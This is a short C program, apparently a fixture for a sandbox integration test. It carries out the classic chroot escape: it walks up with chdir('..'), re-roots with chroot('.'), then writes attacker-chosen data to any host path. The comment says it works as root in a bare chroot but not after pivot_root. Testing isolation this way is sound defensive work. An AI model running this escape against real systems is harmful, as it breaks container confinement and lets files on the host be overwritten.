/* The classic chroot escape, for tests/integration/test_attacks_build.py: chroot into a new
 * subdirectory while the working directory stays outside it, walk up with chdir(".."), make
 * the top the root again with chroot("."), then write argv[2] into the file argv[1].
 * In a bare chroot, as root, this reaches the host's root; after pivot_root it cannot. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 3)
        return 2;
    mkdir("/escape-dir", 0755);
    if (chdir("/") != 0 || chroot("/escape-dir") != 0) {
        perror("chroot");
        return 1;
    }
    for (int i = 0; i < 256; i++)
        chdir("..");
    if (chroot(".") != 0) {
        perror("chroot .");
        return 1;
    }
    int fd = open(argv[1], O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0) {
        perror(argv[1]);
        return 1;
    }
    write(fd, argv[2], strlen(argv[2]));
    close(fd);
    return 0;
}
